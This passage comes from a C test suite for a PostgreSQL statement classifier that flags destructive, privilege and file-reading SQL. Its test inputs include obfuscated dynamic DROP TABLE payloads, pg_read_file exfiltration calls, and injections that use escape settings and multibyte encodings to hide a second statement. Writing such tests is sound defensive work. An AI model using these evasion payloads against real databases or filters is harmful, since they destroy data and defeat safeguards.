  REFUSED("EXPLAIN ANALYZE DELETE FROM t", LV_SQL_DESTRUCTIVE);
  REFUSED("EXPLAIN (ANALYZE) UPDATE t SET x = 1", LV_SQL_DESTRUCTIVE);
  REFUSED("EXPLAIN (ANALYZE on, BUFFERS) DELETE FROM t", LV_SQL_DESTRUCTIVE);
  REFUSED("EXPLAIN (ANALYZE 1) DELETE FROM t", LV_SQL_DESTRUCTIVE);
  REFUSED("EXPLAIN ANALYZE VERBOSE SELECT pg_read_file('x')",
          LV_SQL_EXFILTRATION);
  PASSED("EXPLAIN DELETE FROM t");
  PASSED("EXPLAIN (ANALYZE off) DELETE FROM t");
  PASSED("EXPLAIN (ANALYZE false, VERBOSE) UPDATE t SET x = 1");
  PASSED("EXPLAIN (COSTS off) SELECT pg_read_file('x')");
  /* PREPARE, EXECUTE, DEALLOCATE */
  const char *text =
      "PREPARE wipe(int) AS DELETE FROM t; EXECUTE wipe(1); DEALLOCATE wipe; "
      "DEALLOCATE ALL; PREPARE ok AS SELECT 1; EXPLAIN ANALYZE EXECUTE ok";
  lv_sql_result r = classify_with(text, strlen(text), 1, NULL);
  assert_int_equal(r.n_stmts, 6);
  assert_string_equal(r.stmts[0].prepare, "wipe");
  assert_int_equal(r.stmts[0].ops, LV_SQL_DESTRUCTIVE);
  assert_string_equal(r.stmts[1].execute, "wipe");
  assert_int_equal(r.stmts[1].ops, 0);
  assert_string_equal(r.stmts[2].deallocate, "wipe");
  assert_int_equal(r.stmts[2].deallocate_all, 0);
  assert_string_equal(r.stmts[3].deallocate, "");
  assert_int_equal(r.stmts[3].deallocate_all, 1);
  assert_string_equal(r.stmts[4].prepare, "ok");
  assert_int_equal(r.stmts[4].ops, 0);
  assert_string_equal(r.stmts[5].execute, "ok");
  lv_sql_result_free(&r);
  /* rules */
  REFUSED("CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM u",
          LV_SQL_DESTRUCTIVE);
  REFUSED("CREATE OR REPLACE RULE r AS ON UPDATE TO t DO INSTEAD (SELECT 1; "
          "UPDATE u SET x = 0)",
          LV_SQL_DESTRUCTIVE);
  PASSED("CREATE RULE r AS ON DELETE TO t DO INSTEAD NOTHING");
  PASSED("CREATE RULE r AS ON INSERT TO t DO ALSO INSERT INTO log VALUES "
         "(new.id)");
  /* functions and procedures */
  REFUSED_R("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM t'",
            LV_SQL_DESTRUCTIVE, "DELETE without WHERE on t (function body)");
  REFUSED("CREATE FUNCTION f() RETURNS void AS $$ TRUNCATE t $$ LANGUAGE SQL",
          LV_SQL_DESTRUCTIVE);
  REFUSED("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE "
          "FROM t; SELECT 1; END",
          LV_SQL_DESTRUCTIVE);
  REFUSED("CREATE FUNCTION f() RETURNS int LANGUAGE sql RETURN "
          "lo_unlink(1)",
          LV_SQL_DESTRUCTIVE);
  REFUSED("CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DROP TABLE t; "
          "END $$",
          LV_SQL_DESTRUCTIVE);
  REFUSED("CREATE FUNCTION f() RETURNS trigger LANGUAGE 'plpgsql' AS 'BEGIN "
          "DELETE FROM t; RETURN NEW; END'",
          LV_SQL_DESTRUCTIVE);
  REFUSED_R("CREATE FUNCTION f() RETURNS void LANGUAGE plpython3u AS "
            "'plpy.execute(\"x\")'",
            LV_SQL_UNRESOLVED,
            "function body in LANGUAGE plpython3u cannot be checked");
  REFUSED("CREATE FUNCTION f(int) RETURNS bool LANGUAGE internal AS "
          "'pg_terminate_backend'",
          LV_SQL_UNRESOLVED);
  REFUSED("CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'sym'",
          LV_SQL_UNRESOLVED);
  REFUSED("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'not sql'",
          LV_SQL_UNPARSABLE);
  PASSED("CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql "
         "IMMUTABLE AS 'SELECT a + b'");
  PASSED("CREATE OR REPLACE FUNCTION f(x int) RETURNS int LANGUAGE plpgsql AS "
         "$$ BEGIN IF x > 0 THEN RETURN x; END IF; RETURN -x; END $$");
  PASSED("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; "
         "END");
  PASSED("CREATE TRIGGER t_audit AFTER DELETE ON t FOR EACH ROW EXECUTE "
         "FUNCTION log_delete()");
  PASSED("CREATE VIEW v AS SELECT id FROM t WHERE x = 1");
  /* DO blocks */
  REFUSED_R("DO $$ BEGIN DELETE FROM t; END $$", LV_SQL_DESTRUCTIVE,
            "DELETE without WHERE on t (DO block)");
  REFUSED("DO LANGUAGE plpgsql 'BEGIN TRUNCATE t; END'", LV_SQL_DESTRUCTIVE);
  REFUSED("DO $$ BEGIN IF pg_terminate_backend(1) THEN NULL; END IF; END $$",
          LV_SQL_DESTRUCTIVE);
  REFUSED("DO $$ DECLARE x text := pg_read_file('x'); BEGIN NULL; END $$",
          LV_SQL_EXFILTRATION);
  REFUSED("DO $$ BEGIN RAISE NOTICE '%', pg_read_file('x'); END $$",
          LV_SQL_EXFILTRATION);
  REFUSED("DO $$ BEGIN FOR i IN 1..3 LOOP UPDATE t SET x = i; END LOOP; END $$",
          LV_SQL_DESTRUCTIVE);
  REFUSED("DO $$ BEGIN BEGIN NULL; EXCEPTION WHEN others THEN DELETE FROM t; "
          "END; END $$",
          LV_SQL_DESTRUCTIVE);
  REFUSED("DO $$ DECLARE r record; BEGIN FOR r IN SELECT lo_unlink(1) LOOP "
          "END LOOP; END $$",
          LV_SQL_DESTRUCTIVE);
  REFUSED("DO $$ BEGIN CREATE FUNCTION g() RETURNS void LANGUAGE sql AS 'DROP "
          "TABLE t'; END $$",
          LV_SQL_DESTRUCTIVE);
  REFUSED_R("DO LANGUAGE plperl 'x'", LV_SQL_UNRESOLVED,
            "DO block in LANGUAGE plperl cannot be checked");
  REFUSED_R("DO $$ DECLARE c refcursor; BEGIN OPEN c FOR SELECT 1; END $$",
            LV_SQL_UNRESOLVED, "PL/pgSQL body not understood");
  REFUSED("DO $$ BEGIN this is not plpgsql; END $$", LV_SQL_UNRESOLVED);
  PASSED("DO $$ BEGIN RAISE NOTICE 'DROP TABLE t'; END $$");
  PASSED("DO $$ DECLARE n int := 0; BEGIN SELECT count(*) INTO n FROM t; "
         "UPDATE t SET x = n WHERE id = 1; END $$");
}

static void test_dynamic(void **state) {
  (void)state;
  static const char *dropped[] = {
      "'DROP TABLE t'",
      "'DRO' || 'P TABLE t'",
      "'DROP ' || 'TABLE' || ' ' || 't'",
      "concat('DROP', ' TABLE ', 't')",
      "concat_ws(' ', 'DROP', NULL, 'TABLE', 't')",
      "format('DROP TABLE %I', 't')",
      "format('DROP TABLE %s', 't')",
      "format('%s %s %I', 'DROP', 'TABLE', 't')",
      "format('%2$s %1$s t', 'TABLE', 'DROP')",
      "format('DROP TABLE %I.%I', 'public', 'My Table')",
      "format('DROP TABLE t -- %L', 'it''s')",
      "format('DROP TABLE t /* 100%% */')",
      "upper('drop table t')",
      "lower('DROP TABLE T')",
      "replace('DRXP TABLE t', 'X', 'O')",
      "chr(68) || chr(82) || chr(79) || chr(80) || ' TABLE t'",
      "'DROP TABLE ' || quote_ident('t')",
      "'DROP TABLE ' || quote_ident('T T')",
      "'DROP TABLE t -- ' || quote_literal('a''b\\c')",
      "E'DROP\\x20TABLE\\tt'",
      "$q$DROP TABLE t$q$",
      "U&'\\0044ROP TABLE t'",
      "convert_from(decode('44524f50205441424c452074', 'hex'), 'UTF8')",
      "convert_from(decode('RFJPUCBUQUJMRSB0', 'base64'), 'utf8')",
      "convert_from('\\x44524f50205441424c452074', 'UTF8')",
      "convert_from(decode('DROP TABLE t', 'escape'), 'LATIN1')",
      "reverse('t ELBAT PORD')",
      "translate('DRxP TABLy t', 'xy', 'OE')",
      "substring('xxDROP TABLE txx' from 3 for 12)",
      "substr('..DROP TABLE t', 3)",
      "left('DROP TABLE t;;;', -3)",
      "right('...DROP TABLE t', 12)",
      "btrim('  DROP TABLE t  ')",
      "trim(both 'x' from 'xxDROP TABLE txx')",
      "split_part('SELECT 1|DROP TABLE t', '|', 2)",
      "array_to_string(ARRAY['DROP', 'TABLE', 't'], ' ')",
      "'DROP TABLE ' || repeat('t', 1)",
      "CASE WHEN 1 = 1 THEN 'DROP TABLE t' ELSE 'SELECT 1' END",
      "coalesce(NULL, 'DROP TABLE t')",
      "'DROP TABLE t'::text",
      "'DROP TABLE t'::varchar(12)",
      "('DROP' || ' TABLE t')::varchar",
      "'DROP TABLE t' || ''",
      "concat('DROP TABLE t', 1)",
  };
  char sql[512];
  for (size_t k = 0; k < sizeof dropped / sizeof dropped[0]; k++) {
    snprintf(sql, sizeof sql, "DO $do$ BEGIN EXECUTE %s; END $do$", dropped[k]);
    REFUSED_R(sql, LV_SQL_DESTRUCTIVE, "DROP TABLE");
  }
  /* variables */
  REFUSED("DO $$ DECLARE v text := 'DRO'; BEGIN v := v || 'P TABLE t'; EXECUTE "
          "v; END $$",
          LV_SQL_DESTRUCTIVE);
  REFUSED("DO $$ DECLARE a text := 'DROP'; b text := a || ' TABLE'; BEGIN "
          "EXECUTE b || ' t'; END $$",
          LV_SQL_DESTRUCTIVE);
  REFUSED("DO $$ DECLARE v text = 'TRUNCATE t'; BEGIN EXECUTE v; END $$",
          LV_SQL_DESTRUCTIVE);
  REFUSED("DO $$ DECLARE v CONSTANT text := 'TRUNCATE t'; BEGIN EXECUTE v; "
          "END $$",
          LV_SQL_DESTRUCTIVE);
  REFUSED("DO $$ DECLARE v text; BEGIN v = 'SELECT 1'; v = 'DELETE FROM t'; "
          "EXECUTE v; END $$",
          LV_SQL_DESTRUCTIVE);
  REFUSED("DO $$ DECLARE v text := 'SELECT 1'; BEGIN IF random() < 0.5 THEN v "
          ":= 'DROP TABLE t'; END IF; EXECUTE v; END $$",
          LV_SQL_DESTRUCTIVE);
  REFUSED("DO $$ DECLARE v text := 'SELECT 1'; BEGIN CASE WHEN random() < 0.5 "
          "THEN v := 'SELECT 2'; ELSE v := 'GRANT ALL ON t TO x'; END CASE; "
          "EXECUTE v; END $$",
          LV_SQL_PRIVILEGE);
  REFUSED("DO $$ DECLARE v text := 'SELECT 1'; BEGIN BEGIN v := 'DROP TABLE "
          "t'; PERFORM 1/0; EXCEPTION WHEN others THEN EXECUTE v; END; END $$",
          LV_SQL_DESTRUCTIVE);
  REFUSED("DO $$ DECLARE v text := 'SELECT 1'; w text; BEGIN WHILE random() < "
          "0.5 LOOP w := v; v := 'DROP TABLE t'; END LOOP; EXECUTE w; END $$",
          LV_SQL_DESTRUCTIVE);
  REFUSED("DO $$ DECLARE t text := 'a'; BEGIN FOR i IN 1..10 LOOP t := t || "
          "'a'; END LOOP; EXECUTE 'SELECT ' || t; END $$",
          LV_SQL_UNRESOLVED);
  REFUSED("DO $$ DECLARE q text; n int; BEGIN n := 2; q := format('DELETE "
          "FROM t WHERE %s = %s', n, n); EXECUTE q; END $$",
          LV_SQL_DESTRUCTIVE);
  REFUSED("DO $$ DECLARE a text[] := ARRAY['x']; BEGIN a[1] := 'DROP TABLE t'; "
          "EXECUTE a[1]; END $$",
          LV_SQL_UNRESOLVED);
  /* the forms of dynamic SQL */
  REFUSED("CREATE FUNCTION f() RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN "
          "RETURN QUERY EXECUTE 'DELETE FROM t RETURNING 1'; END $$",
          LV_SQL_DESTRUCTIVE);
  REFUSED("DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'UPDATE t SET x = 0 "
          "RETURNING *' LOOP END LOOP; END $$",
          LV_SQL_DESTRUCTIVE);
  REFUSED("DO $$ BEGIN EXECUTE 'DO $x$ BEGIN EXECUTE ''TRUNCATE t''; END $x$'; "
          "END $$",
          LV_SQL_DESTRUCTIVE);
  REFUSED("DO $$ BEGIN EXECUTE 'SELECT 1'; EXECUTE 'SELECT 2; DROP TABLE t'; "
          "END $$",
          LV_SQL_DESTRUCTIVE);
  /* not known: refused as unresolved */
  REFUSED_R("DO $$ DECLARE t text; BEGIN SELECT name INTO t FROM x; EXECUTE "
            "t; END $$",
            LV_SQL_UNRESOLVED, "dynamic EXECUTE of text not known");
  REFUSED("CREATE FUNCTION f(tbl text) RETURNS void LANGUAGE plpgsql AS $$ "
          "BEGIN EXECUTE 'SELECT count(*) FROM ' || tbl; END $$",
          LV_SQL_UNRESOLVED);
  REFUSED("DO $$ BEGIN EXECUTE current_setting('x.q'); END $$",
          LV_SQL_UNRESOLVED);
  REFUSED("DO $$ BEGIN EXECUTE md5('x'); END $$", LV_SQL_UNRESOLVED);
  REFUSED("DO $$ BEGIN EXECUTE 'EXECUTE p'; END $$", LV_SQL_UNRESOLVED);
  REFUSED("DO $$ BEGIN EXECUTE 'not valid sql'; END $$", LV_SQL_UNPARSABLE);
  /* harmless dynamic SQL passes */
  PASSED("DO $$ BEGIN EXECUTE 'SELECT 1'; END $$");
  PASSED("DO $$ BEGIN EXECUTE format('SELECT count(*) FROM %I', 't'); END $$");
  PASSED("DO $$ DECLARE q text := 'SELECT 1'; BEGIN EXECUTE q USING 1; END $$");
  PASSED("DO $$ BEGIN EXECUTE 'UPDATE t SET x = $1 WHERE id = $2' USING 1, 2; "
         "END $$");
  PASSED("DO $$ BEGIN EXECUTE NULL::text; EXCEPTION WHEN others THEN NULL; END "
         "$$");
  PASSED("CREATE FUNCTION f(k int) RETURNS void LANGUAGE plpgsql AS $$ BEGIN "
         "EXECUTE 'DELETE FROM t WHERE id = $1' USING k; END $$");
  /* quote_ident follows PostgreSQL's keyword list: an unreserved keyword is
   * not quoted, so this builds DROP TABLE t */
  REFUSED("DO $$ BEGIN EXECUTE format('%I TABLE t', 'drop'); END $$",
          LV_SQL_DESTRUCTIVE);
  /* a reserved one is quoted: "table" is then an identifier, and the text
   * does not parse */
  REFUSED("DO $$ BEGIN EXECUTE format('DROP %I t', 'table'); END $$",
          LV_SQL_UNPARSABLE);
  /* PL/pgSQL without a body: the server refuses these; libpg_query's
   * PL/pgSQL parser aborts the process on them, so it is not asked */
  PASSED("DO LANGUAGE plpgsql");
  PASSED("CREATE FUNCTION f(a int) RETURNS SETOF t LANGUAGE plpgsql");
  PASSED("CREATE PROCEDURE p() LANGUAGE plpgsql BEGIN ATOMIC SELECT 1; END");
  REFUSED("CREATE PROCEDURE p() LANGUAGE plpgsql BEGIN ATOMIC DELETE FROM t; "
          "END",
          LV_SQL_DESTRUCTIVE);
}

/* standard_conforming_strings */
static void test_standard_conforming_strings(void **state) {
  (void)state;
  /* lexes only with it off */
  const char *only_off = "SELECT 'a\\'' || 1";
  assert_int_equal(ops_full(only_off, 0, NULL, NULL, 0), 0);
  assert_int_equal(ops_full(only_off, 1, NULL, NULL, 0), LV_SQL_UNPARSABLE);
  /* a DROP that only exists when it is off */
  const char *hidden = "SELECT 'x\\''; DROP TABLE orders; --'";
  assert_int_equal(ops_full(hidden, 1, NULL, NULL, 0), 0);
  assert_int_equal(ops_full(hidden, 0, NULL, NULL, 0), LV_SQL_DESTRUCTIVE);
  /* and one that only exists when it is on */
  const char *hidden_on = "SELECT 'x\\'; DROP TABLE orders; --'";
  assert_int_equal(ops_full(hidden_on, 1, NULL, NULL, 0), LV_SQL_DESTRUCTIVE);
  assert_int_equal(ops_full(hidden_on, 0, NULL, NULL, 0), 0);
  /* E'' strings lex the same either way */
  const char *e = "SELECT E'x\\''; DROP TABLE orders; --'";
  assert_int_equal(ops_full(e, 1, NULL, NULL, 0), LV_SQL_DESTRUCTIVE);
  assert_int_equal(ops_full(e, 0, NULL, NULL, 0), LV_SQL_DESTRUCTIVE);
  const char *e2 = "SELECT E'x\\'; DROP TABLE orders; --'";
  assert_int_equal(ops_full(e2, 1, NULL, NULL, 0), 0);
  assert_int_equal(ops_full(e2, 0, NULL, NULL, 0), 0);
  /* a function body runs later, perhaps with the setting changed: it is
   * read both ways when it holds a backslash */
  const char *body = "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS "
                     "$$SELECT 'x\\''; DELETE FROM t; --'$$";
  assert_int_equal(ops_full(body, 1, NULL, NULL, 0), LV_SQL_DESTRUCTIVE);
  const char *plbody = "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS "
                       "$$BEGIN PERFORM 'x\\''; TRUNCATE t; --'\nEND$$";
  assert_int_equal(ops_full(plbody, 1, NULL, NULL, 0) & LV_SQL_DESTRUCTIVE,
                   LV_SQL_DESTRUCTIVE);
  /* dynamic SQL after a SET in the same text runs with the new setting */
  const char *set_then =
      "SET standard_conforming_strings = off; DO $$ BEGIN EXECUTE "
      "$q$SELECT 'x\\''; DELETE FROM t; --'$q$; END $$";
  assert_int_equal(ops_full(set_then, 1, NULL, NULL, 0) & LV_SQL_DESTRUCTIVE,
                   LV_SQL_DESTRUCTIVE);
  const char *no_set = "DO $$ BEGIN EXECUTE $q$SELECT 'x\\''; DELETE FROM t; "
                       "--'$q$; END $$";
  assert_int_equal(ops_full(no_set, 1, NULL, NULL, 0), 0);
  /* the session value is not left behind in the thread */
  assert_int_equal(ops_full(only_off, 1, NULL, NULL, 0), LV_SQL_UNPARSABLE);
}

/* --- encodings ------------------------------------------------------------ */

static unsigned ops_enc(const char *bytes, const char *enc, int scs) {
  lv_sql_result r = classify_with(bytes, strlen(bytes), scs, enc);
  unsigned ops = r.ops;
  lv_sql_result_free(&r);
  return ops;
}

static void test_encodings(void **state) {
  (void)state;
  /* A multibyte character whose second byte is 0x5C (backslash) ends an
   * E'' string where a byte-wise lexer sees an escaped quote. Converted
   * first, as the server does, the DROP is there. */
  const char *gbk = "SELECT E'\x95\x5c'; DROP TABLE orders; --'";
  assert_int_equal(ops_enc(gbk, "GBK", 1), LV_SQL_DESTRUCTIVE);
  assert_int_equal(ops_enc(gbk, "gb18030", 1), LV_SQL_DESTRUCTIVE);
  assert_int_equal(ops_enc(gbk, "win936", 1), LV_SQL_DESTRUCTIVE);
  assert_int_equal(ops_enc(gbk, "SQL_ASCII", 1), 0); /* bytes: one string */
  const char *big5 = "SELECT E'\xa5\x5c'; DELETE FROM accounts; --'";
  assert_int_equal(ops_enc(big5, "BIG5", 1), LV_SQL_DESTRUCTIVE);
  assert_int_equal(ops_enc(big5, "Windows950", 1), LV_SQL_DESTRUCTIVE);
  const char *sjis = "SELECT E'\x95\x5c'; TRUNCATE orders; --'";
  assert_int_equal(ops_enc(sjis, "SJIS", 1), LV_SQL_DESTRUCTIVE);
  assert_int_equal(ops_enc(sjis, "Shift_JIS", 1), LV_SQL_DESTRUCTIVE);
  assert_int_equal(ops_enc(sjis, "mskanji", 1), LV_SQL_DESTRUCTIVE);
  /* with standard_conforming_strings off, a plain string does the same */
  const char *gbk_off = "SELECT '\x95\x5c'; DROP TABLE orders; --'";
  assert_int_equal(ops_enc(gbk_off, "GBK", 0), LV_SQL_DESTRUCTIVE);
  /* and the other way: correctly lexed it is harmless */
  const char *gbk_pass = "SELECT E'\x95\x5c', ' DROP TABLE orders '";
  assert_int_equal(ops_enc(gbk_pass, "GBK", 1), 0);
  /* the text is returned in UTF-8 */
  lv_sql_result r = classify_with("SELECT 'caf\xe9'", 13, 1, "LATIN1");
  assert_int_equal(r.ops, 0);
  assert_string_equal(r.text, "SELECT 'caf\xc3\xa9'");
  assert_int_equal(r.text_len, 14);
  lv_sql_result_free(&r);
  r = classify_with("SELECT '\xd6\xd0\xce\xc4'", 13, 1, "GBK"); /* 中文 */
  assert_string_equal(r.text, "SELECT '\xe4\xb8\xad\xe6\x96\x87'");
  lv_sql_result_free(&r);
  assert_int_equal(
      ops_enc("DELETE FROM t WHERE name = 'caf\xe9' OR 1=1", "latin1", 1),
      LV_SQL_DESTRUCTIVE);
  assert_int_equal(ops_enc("SELECT '\xf0'", "KOI8R", 1), 0);
  assert_int_equal(ops_enc("SELECT '\xe9'", "ISO_8859_5", 1), 0);
  assert_int_equal(ops_enc("SELECT '\xe9'", "WIN1251", 1), 0);
  assert_int_equal(ops_enc("SELECT '\xa4\xa2'", "EUC_JP", 1), 0);
  assert_int_equal(ops_enc("SELECT '\xb0\xa1'", "EUC_KR", 1), 0);
  assert_int_equal(ops_enc("SELECT '\xb0\xa1'", "UHC", 1), 0);
  assert_int_equal(ops_enc("SELECT '\xe9'", "SQL_ASCII", 1), 0);
  /* names as PostgreSQL accepts them */
  assert_int_equal(ops_enc("SELECT 1", "utf-8", 1), 0);
  assert_int_equal(ops_enc("SELECT 1", "Unicode", 1), 0);
  assert_int_equal(ops_enc("SELECT 1", "iso-8859-1", 1), 0);
  assert_int_equal(ops_enc("SELECT 1", "Latin_1", 1), 0);
  /* invalid bytes and encodings not converted */
  char why[LV_SQL_REASON_MAX];
  assert_int_equal(ops_full("SELECT '\xff'", 1, NULL, why, sizeof why),
                   LV_SQL_UNPARSABLE);
  assert_string_equal(why, "invalid byte sequence for encoding UTF8");
  assert_int_equal(ops_enc("SELECT '\x95'", "GBK", 1), LV_SQL_UNPARSABLE);
  assert_int_equal(ops_enc("SELECT 1 -- \x95", "GBK", 1), LV_SQL_UNPARSABLE);
  assert_int_equal(ops_full("SELECT 1", 1, "MULE_INTERNAL", why, sizeof why),
                   LV_SQL_UNPARSABLE);
  assert_string_equal(why, "client encoding MULE_INTERNAL is not supported");
  assert_int_equal(ops_enc("SELECT 1", "JOHAB", 1), LV_SQL_UNPARSABLE);
  assert_int_equal(ops_enc("SELECT 1", "SHIFT_JIS_2004", 1), LV_SQL_UNPARSABLE);
  assert_int_equal(ops_enc("SELECT 1", "EBCDIC", 1), LV_SQL_UNPARSABLE);
  assert_int_equal(ops_enc("SELECT 1", "", 1), LV_SQL_UNPARSABLE);
  /* an unparsable text: no statements, an empty text */
  r = classify_with("SELECT 1", 8, 1, "nonsense");
  assert_int_equal(r.n_stmts, 0);
  assert_string_equal(r.text, "");
  lv_sql_result_free(&r);
  /* every converted encoding keeps ASCII as it is (PostgreSQL requires its
   * client encodings to) */
  static const char *names[] = {
      "LATIN1",     "LATIN2",     "LATIN3",     "LATIN4",     "LATIN5",
      "LATIN6",     "LATIN7",     "LATIN8",     "LATIN9",     "LATIN10",
      "ISO_8859_5", "ISO_8859_6", "ISO_8859_7", "ISO_8859_8", "WIN1250",
      "WIN1251",    "WIN1252",    "WIN1253",    "WIN1254",    "WIN1255",
      "WIN1256",    "WIN1257",    "WIN1258",    "WIN866",     "WIN874",
      "KOI8R",      "KOI8U",      "EUC_CN",     "EUC_JP",     "EUC_JIS_2004",
      "EUC_KR",     "EUC_TW",     "GBK",        "GB18030",    "BIG5",
      "SJIS",       "UHC"};
  char ascii[140];
  size_t n = 0;
  memcpy(ascii, "SELECT $x$", 10);
  n = 10;
  for (int ch = 1; ch < 0x80; ch++)
    if (ch != '$')
      ascii[n++] = (char)ch;
  memcpy(ascii + n, "$x$", 3);
  n += 3;
  for (size_t k = 0; k < sizeof names / sizeof names[0]; k++) {
    r = classify_with(ascii, n, 1, names[k]);
    if (r.ops != 0 || r.text_len != n || memcmp(r.text, ascii, n) != 0)
      fail_msg("%s does not keep ASCII (ops %#x)", names[k], r.ops);
    lv_sql_result_free(&r);
  }
}

static void test_nul(void **state) {
  (void)state;
  const char text[] = "SELECT 1;\0 DROP TABLE t";
  lv_sql_result r = classify_with(text, sizeof text - 1, 1, NULL);
  assert_int_equal(r.ops, LV_SQL_UNPARSABLE);
  assert_string_equal(r.reason, "the text contains a NUL byte");
  lv_sql_result_free(&r);
  REFUSED("DO $$ BEGIN EXECUTE 'SELECT 1' || chr(0); END $$",
          LV_SQL_UNRESOLVED);
}

/* --- statements, fingerprints, reasons ------------------------------------ */

static void test_statements(void **state) {
  (void)state;
  const char *text = "  SELECT 1 ;\n  DROP TABLE t ; -- bye\n select 2";
  lv_sql_result r = classify_with(text, strlen(text), 1, NULL);
  assert_int_equal(r.n_stmts, 3);
  assert_int_equal(r.ops, LV_SQL_DESTRUCTIVE);
  assert_string_equal(r.reason, "DROP TABLE t");
  assert_int_equal(r.stmts[0].ops, 0);
  assert_string_equal(r.stmts[0].reason, "");
  assert_int_equal(r.stmts[1].ops, LV_SQL_DESTRUCTIVE);
  assert_int_equal(r.stmts[2].ops, 0);
  assert_int_equal(r.stmts[0].len, 8);
  assert_memory_equal(r.text + r.stmts[0].offset, "SELECT 1", 8);
  assert_int_equal(r.stmts[1].len, 12);
  assert_memory_equal(r.text + r.stmts[1].offset, "DROP TABLE t", 12);
  /* a comment before a statement is part of it */
  assert_int_equal(r.stmts[2].len, 16);
  assert_memory_equal(r.text + r.stmts[2].offset, "-- bye\n select 2", 16);
  assert_int_equal(r.fingerprint, r.stmts[0].fingerprint);
  /* each statement's fingerprint is the statement's own */
  lv_sql_result one = classify_with("DROP TABLE t", 12, 1, NULL);
  assert_int_equal(r.stmts[1].fingerprint, one.fingerprint);
  assert_true(one.fingerprint != 0);
  lv_sql_result_free(&one);
  lv_sql_result_free(&r);
  /* constants and case aside, the same statement has one fingerprint */
  lv_sql_result a = classify_with("SELECT * FROM t WHERE id = 1", 28, 1, NULL);
  lv_sql_result b = classify_with("select * from t where id = 42", 29, 1, NULL);
  lv_sql_result c = classify_with("SELECT * FROM u WHERE id = 1", 28, 1, NULL);
  assert_true(a.fingerprint != 0);
  assert_int_equal(a.fingerprint, b.fingerprint);
  assert_true(a.fingerprint != c.fingerprint);
  lv_sql_result_free(&a);
  lv_sql_result_free(&b);
  lv_sql_result_free(&c);
  /* a text that does not parse is one statement, the whole text */
  r = classify_with("SELECT 1; DROP TABLE", 20, 1, NULL);
  assert_int_equal(r.ops, LV_SQL_UNPARSABLE);
  assert_int_equal(r.n_stmts, 1);
  assert_int_equal(r.stmts[0].offset, 0);
  assert_int_equal(r.stmts[0].len, 20);
  assert_string_equal(r.reason, "syntax error at end of input");
  lv_sql_result_free(&r);
  /* reasons stay within their size, whole UTF-8 characters */
  char sql[600];
  int n = snprintf(sql, sizeof sql, "DROP TABLE \"");
  for (int k = 0; k < 20; k++)
    n += snprintf(sql + n, sizeof sql - (size_t)n, "\xe8\xa1\xa8");
  snprintf(sql + n, sizeof sql - (size_t)n, "\"");
  r = classify_with(sql, strlen(sql), 1, NULL);
  assert_int_equal(r.ops, LV_SQL_DESTRUCTIVE);
  assert_true(strlen(r.reason) < LV_SQL_REASON_MAX);
  assert_true(lv_utf8_valid(r.reason, strlen(r.reason)));
  assert_memory_equal(r.reason, "DROP TABLE \xe8\xa1\xa8", 14);
  lv_sql_result_free(&r);
}

/* --- bounds --------------------------------------------------------------- */

static void test_bounds(void **state) {
  (void)state;
  /* over the limit */
  char *big = malloc(LV_SQL_MAX_TEXT + 1);
  assert_non_null(big);
  memset(big, ' ', LV_SQL_MAX_TEXT + 1);
  lv_sql_result r;
  assert_int_equal(lv_sql_classify(big, LV_SQL_MAX_TEXT + 1, NULL, &r),
                   LEVEE_EINVAL);
  /* 4 MiB: one bulk INSERT, then a DROP at the very end */
  size_t o = (size_t)snprintf(big, 64, "INSERT INTO t VALUES ");
  const char *tail = "; DROP TABLE t";
  size_t room = LV_SQL_MAX_TEXT - strlen(tail);
  for (int i = 0; o + 24 < room; i++)
    o += (size_t)snprintf(big + o, 24, "%s(%d,'x')", i ? "," : "", i % 1000);
  /* a length-delimited text: no NUL */
  // NOLINTNEXTLINE(bugprone-not-null-terminated-result)
  memcpy(big + o, tail, strlen(tail));
  o += strlen(tail);
  r = classify_with(big, o, 1, NULL);
  assert_int_equal(r.ops, LV_SQL_DESTRUCTIVE);
  assert_int_equal(r.n_stmts, 2);
  assert_int_equal(r.stmts[0].ops, 0);
  lv_sql_result_free(&r);
  /* a thousand statements, the last one destructive */
  o = 0;
  for (int i = 0; i < 1000; i++)
    o += (size_t)snprintf(big + o, 64, "UPDATE t SET x = %d WHERE id = %d;", i,
                          i);
  o += (size_t)snprintf(big + o, 64, "DELETE FROM t");
  r = classify_with(big, o, 1, NULL);
  assert_int_equal(r.n_stmts, 1001);
  assert_int_equal(r.ops, LV_SQL_DESTRUCTIVE);
  assert_int_equal(r.stmts[999].ops, 0);
  assert_int_equal(r.stmts[1000].ops, LV_SQL_DESTRUCTIVE);
  assert_string_equal(r.reason, "DELETE without WHERE on t");
  lv_sql_result_free(&r);
  /* deep nesting: 1000 parentheses parse; far deeper the parser refuses */
  o = (size_t)snprintf(big, 64, "DELETE FROM t WHERE ");
  for (int i = 0; i < 1000; i++)
    big[o++] = '(';
  o += (size_t)snprintf(big + o, 16, "1=1");
  for (int i = 0; i < 1000; i++)
    big[o++] = ')';
  r = classify_with(big, o, 1, NULL);
  assert_int_equal(r.ops, LV_SQL_DESTRUCTIVE);
  lv_sql_result_free(&r);
  o = (size_t)snprintf(big, 64, "SELECT ");
  for (int i = 0; i < 200000; i++)
    big[o++] = '(';
  big[o++] = '1';
  for (int i = 0; i < 200000; i++)
    big[o++] = ')';
  r = classify_with(big, o, 1, NULL);
  assert_int_equal(r.ops, LV_SQL_UNPARSABLE);
  lv_sql_result_free(&r);
  /* a deep expression tree (left-deep, 20000 levels) */
  o = (size_t)snprintf(big, 64, "DELETE FROM t WHERE 1");
  for (int i = 0; i < 20000; i++)
    o += (size_t)snprintf(big + o, 8, "+1");
  o += (size_t)snprintf(big + o, 16, " = 20001");
  r = classify_with(big, o, 1, NULL);
  assert_int_equal(r.ops, LV_SQL_DESTRUCTIVE); /* row-independent */
  lv_sql_result_free(&r);
  o = (size_t)snprintf(big, 64, "DELETE FROM t WHERE id");
  for (int i = 0; i < 20000; i++)
    o += (size_t)snprintf(big + o, 8, "+1");
  o += (size_t)snprintf(big + o, 16, " = 20001");
  r = classify_with(big, o, 1, NULL);
